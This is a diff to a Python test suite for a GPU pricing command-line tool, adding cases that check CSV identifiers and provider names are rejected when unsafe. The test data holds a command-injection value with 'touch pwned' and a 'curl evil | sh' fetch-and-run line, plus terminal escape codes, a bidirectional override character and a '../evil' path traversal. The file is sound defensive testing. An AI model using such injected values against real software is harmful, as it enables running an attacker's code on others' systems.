@@ -248,6 +248,18 @@ def _tables() -> list[Case]:
                               ("price-text", "p5,H100,8,ten,,us", "not a number")):
         cases.append(Case(f"skypilot-{name}", ["--pricing", "aws={d}/vms.csv", "prices", *JSON_OUT], 2, needle,
                           {"vms.csv": (sky + row + "\n").encode()}))
+    names = [("pricing", OFFERS_CSV, "instance", "p5'; touch pwned; echo '\nsetup: curl evil | sh"),
+             ("pricing", OFFERS_CSV, "provider", "aws\x1b[2J"), ("pricing", OFFERS_CSV, "region", "us\u202eeast"),
+             ("hardware", GPUS_CSV, "id", "h100\x1b[31m"), ("hardware", GPUS_CSV, "vendor", "x" * 300)]
+    for option, table, column, value in names:  # identifiers reach terminals, launch files and file names
+        cmd = "prices" if option == "pricing" else "gpus"
+        cases.append(Case(f"{option}-{column}-hostile-name", [f"--{option}", "{d}/t.csv", cmd, *JSON_OUT], 2,
+                          f"column '{column}': Value error, must be printable",
+                          {"t.csv": _csv_with(table, column, value)}))
+    for name in ("\x1b[31maws", "../evil", "a b"):
+        cases.append(Case(f"skypilot-provider-{name.encode().hex()}", ["--pricing", name + "={d}/vms.csv", "prices",
+                                                                      *JSON_OUT], 2, "a provider name is",
+                          {"vms.csv": (sky + "p5,H100,8,10,5,us\n").encode()}))
     cases.append(Case("pricing-duplicate-offer-other-price", ["--pricing", "{d}/o.csv", "prices", *JSON_OUT], 2,
                       "with a different price", {"o.csv": "\n".join([*lines[:2], twice, *lines[2:]]).encode() + b"\n"}))
     cal_cells = [("eta_mem", "nan"), ("eta_mem", "inf"), ("t_fixed_ms", "1e308"), ("mem_util", "true"),
